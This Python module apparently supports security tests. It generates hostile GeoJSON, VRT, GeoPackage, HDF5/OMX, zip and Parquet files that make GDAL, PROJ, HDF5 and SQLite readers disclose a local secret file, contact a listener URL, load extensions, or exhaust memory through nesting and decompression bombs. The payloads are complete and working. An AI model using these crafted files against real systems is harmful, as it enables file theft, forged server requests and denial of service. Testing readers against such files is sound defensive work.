"""Files that attack their reader: they name a secret file of the machine, or an address that listens, in every way we know.

Each is a real attack: `unsafe` reads it as readers did that trusted their libraries, and shows what they give away.
"""

from __future__ import annotations

import io
import json
import random
import socket
import sqlite3
import stat
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Self

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

SECRET = "password-of-the-database"
_RING = [[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]]
_FEATURE = {"type": "Feature", "properties": {"id": "a"}, "geometry": {"type": "Polygon", "coordinates": [_RING]}}


class Listener:
    """An address on this machine that nobody has a reason to ask; counts who does."""

    def __enter__(self) -> Self:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen()
        self.asked = 0
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()
        return self

    def _listen(self) -> None:
        while True:
            try:
                asking, _ = self.socket.accept()
            except OSError:
                return
            self.asked += 1
            asking.close()

    @property
    def url(self) -> str:
        """Its address."""
        return f"http://127.0.0.1:{self.socket.getsockname()[1]}"

    def __exit__(self, *_: object) -> None:
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self.thread.join(10)


@dataclass
class Hostile:
    """Makes such files, about a secret and a listener."""

    secret: Path
    url: str
    chance: random.Random = field(default_factory=lambda: random.Random(1))

    def zones(self) -> dict[str, bytes]:
        """Files of zones, by name."""
        secret, url = self.secret, self.url
        pipeline = "gdal vector pipeline ! read {} ! write --of stream streamed_dataset"
        algorithm = lambda source: _json(  # noqa: E731
            {"type": "gdal_streamed_alg", "command_line": pipeline.format(source)}
        )
        vrt = lambda source: (  # noqa: E731
            '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>'
            f"{source}</SrcDataSource><SrcLayer>{secret.stem}</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
        ).encode()
        crs = lambda given: _json({"type": "FeatureCollection", "crs": given, "features": [_FEATURE]})  # noqa: E731
        link = {"type": "link", "properties": {"href": f"{url}/crs", "type": "proj4"}}
        named = lambda name: crs({"type": "name", "properties": {"name": name}})  # noqa: E731
        return {
            "gdalg.json": algorithm(secret),
            "gdalg.geojson": algorithm(secret),
            "gdalg-csv.json": algorithm(f"CSV:{secret}"),
            "gdalg-curl.json": algorithm(f"/vsicurl/{url}/a.geojson"),
            "gdalg-http.json": algorithm(f"{url}/a.geojson"),
            "gdalg.gpkg": algorithm(secret),
            "gdalg.fgb": algorithm(secret),
            "vrt.geojson": vrt(secret),
            "vrt.json": vrt(f"/vsicurl/{url}/a.csv"),
            "vrt.gpkg": vrt(secret),
            "vrt.shp": vrt(secret),
            "vrt.fgb": vrt(f"/vsicurl/{url}/a.csv"),
            "vrt-behind.fgb": b"fgb\x03fgb\x01" + vrt(secret),
            "vrt-far-behind.fgb": b"fgb\x03fgb\x01\x01\x00\x00\x00" + vrt(secret),
            "vrt-behind.shp": b"\x00\x00\x27\x0a" + vrt(secret),
            "crs-link.geojson": crs(link),
            "crs-grid.geojson": named(f"+proj=longlat +nadgrids={secret} +type=crs"),
            "crs-init.geojson": named(f"+init={secret}:x"),
            "crs-url.geojson": named(f"{url}/crs"),
            "wfs.json": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>".encode(),
            "oapif.json": _json({"links": [{"rel": "data", "href": f"{url}/collections"}], "collections": []}),
            "esri.json": _json({"geometryType": "esriGeometryPoint", "features": [{"geometry": {"x": 1, "y": 2}}]}),
            "topo.json": _json({"type": "Topology", "objects": {}, "arcs": []}),
            "path.geojson": str(secret).encode(),
            "deep.geojson": b'{"type": "Feature", "geometry": ' + b'{"a": [' * 100_000 + b"}",
            "deep-list.json": b"[" * 1_000_000,
            "huge.geojson": b'{"type": "Feature", "geometry": null, "properties": {"id": ' + b"9" * 1_000_000 + b"}}",
            "virtual.gpkg": self._geopackage(f"CREATE VIRTUAL TABLE z USING VirtualOGR('{secret}', 0, '{secret.stem}')"),
            "virtual-shape.gpkg": self._geopackage(f"CREATE VIRTUAL TABLE z USING VirtualShape('{secret}', 'UTF-8', 4326)"),
            "view.gpkg": self._geopackage(f"CREATE VIEW z AS SELECT 1 AS fid, load_extension('{secret}') AS geom"),
            "function.gpkg": self._geopackage(
                "CREATE TABLE z (fid INTEGER PRIMARY KEY, geom BLOB, "
                "x BLOB GENERATED ALWAYS AS (zeroblob(900000000)) VIRTUAL)", "INSERT INTO z (fid, geom) VALUES (1, x'00')",
            ),
            "link.zip": self._zip_with_link(),
            "crs.geoparquet": self._geoparquet(f"+proj=longlat +nadgrids={secret} +type=crs"),
        }  # fmt: skip

    def matrices(self) -> dict[str, bytes]:
        """OMX files, by name."""
        import h5py

        size, other = (4, 4), self.secret.with_name("other.h5")
        with h5py.File(other, "w") as file:
            file["secret"] = np.frombuffer(SECRET.encode().ljust(128), np.float64).reshape(size)

        def storage(data: Any) -> None:
            data.create_dataset("m", size, "u1", external=[(str(self.secret), 0, 16)])

        def link(data: Any) -> None:
            data["m"] = h5py.ExternalLink(str(other), "secret")

        def virtual(data: Any) -> None:
            layout = h5py.VirtualLayout(size, "f8")
            layout[:] = h5py.VirtualSource(str(other), "secret", size)
            data.create_virtual_dataset("m", layout)

        def soft(data: Any) -> None:
            data.create_dataset("kept", data=np.ones(size))
            data["m"] = h5py.SoftLink("/data/kept")

        def away(data: Any) -> None:
            data["m"] = h5py.SoftLink("/nowhere")

        def own_type(data: Any) -> None:
            data.file["kind"] = np.dtype("f8")
            data.create_dataset("m", size, data.file["kind"])

        def records(data: Any) -> None:
            data.create_dataset("m", size, np.dtype([("a", "f8")]))

        def large(data: Any) -> None:
            data.create_dataset("m", (1_000_000, 1_000_000), "f8", chunks=(1000, 1000))

        def large_pieces(data: Any) -> None:
            data.create_dataset("m", (60_000, 60_000), "f8", chunks=(20_000, 20_000), compression="gzip")

        def group(data: Any) -> None:
            data.file["other"] = h5py.ExternalLink(str(other), "/")
            data.create_dataset("m", data=np.ones(size))

        made = {}
        for way in (storage, link, virtual, soft, away, own_type, records, large, large_pieces, group):
            held = io.BytesIO()
            with h5py.File(held, "w") as file:
                way(file.create_group("data"))
            made[f"{way.__name__}.omx"] = held.getvalue()
        return made

    def tables(self, rows: int = 4_000_000) -> dict[str, bytes]:
        """Tables, by name: a few hundred bytes that are gigabytes once they are read."""
        column = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), pa.array(["x" * 80]))
        held = io.BytesIO()
        # Older versions of pyarrow put any number of rows into a page.
        page = {"max_rows_per_page": rows} if "max_rows_per_page" in (pq.write_table.__doc__ or "") else {}
        pq.write_table(
            pa.table({"origin": column, "destination": column}), held, compression="zstd", write_statistics=False,
            store_schema=False, data_page_size=1 << 30, write_batch_size=rows, row_group_size=rows, **page,
        )  # fmt: skip
        return {"bomb.parquet": held.getvalue()}

    def _geopackage(self, *layer: str) -> bytes:
        """A GeoPackage whose layer z is made so; virtual tables whose module is not here are put straight into its schema."""
        db = sqlite3.connect(":memory:")
        db.executescript(
            "PRAGMA application_id = 1196444487; PRAGMA user_version = 10300;"
            "CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT, "
            "organization_coordsys_id INTEGER, definition TEXT, description TEXT);"
            "INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, '', '');"
            "CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT, "
            "last_change TEXT, min_x REAL, min_y REAL, max_x REAL, max_y REAL, srs_id INTEGER);"
            "INSERT INTO gpkg_contents VALUES ('z', 'features', 'z', '', '2024-01-01T00:00:00Z', 0, 0, 1, 1, 4326);"
            "CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT, srs_id INTEGER, "
            "z INTEGER, m INTEGER);"
            "INSERT INTO gpkg_geometry_columns VALUES ('z', 'geom', 'GEOMETRY', 4326, 0, 0);"
        )
        for sql in layer:
            if "VIRTUAL TABLE" in sql:
                db.execute("PRAGMA writable_schema = ON")
                db.execute("INSERT INTO sqlite_master VALUES ('table', 'z', 'z', 0, ?)", (sql,))
            else:
                db.execute(sql)
        db.commit()
        held = db.serialize()
        db.close()
        return held

    def _zip_with_link(self) -> bytes:
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as archive:
            for ending in (".shp", ".shx", ".dbf"):
                entry = zipfile.ZipInfo(f"z{ending}")
                entry.external_attr = (stat.S_IFLNK | 0o777) << 16
                archive.writestr(entry, str(self.secret))
        return held.getvalue()

    def _geoparquet(self, crs: Any) -> bytes:
        import shapely

        about = {"version": "1.0.0", "primary_column": "g", "columns": {"g": {"encoding": "WKB", "crs": crs}}}
        table = pa.table({"id": ["a"], "g": [shapely.to_wkb(shapely.box(0, 0, 1, 1))]})
        held = io.BytesIO()
        pq.write_table(table.replace_schema_metadata({"geo": json.dumps(about)}), held)
        return held.getvalue()


def _json(content: Any) -> bytes:
    return json.dumps(content).encode()


def make_secret(folder: Path) -> Path:
    """A file that nobody may read: a table, so that every driver takes it for one."""
    secret = folder / "secret.csv"
    secret.write_text(f"id,WKT\n{SECRET},POINT (1 1)\n")
    return secret


def unsafe_zones(path: Path) -> str:
    """What GDAL finds where it is let, or why not."""
    import pyogrio

    try:
        return str(pyogrio.read_arrow(path)[1].to_pydict())
    except Exception as error:
        return f"refused: {error}"


def unsafe_matrix(path: Path) -> str:
    """What HDF5 finds where it is let, or why not."""
    import h5py

    try:
        with h5py.File(path, "r") as file:
            return bytes(np.asarray(file["data/m"])).decode("latin-1")
    except Exception as error:
        return f"refused: {error}"
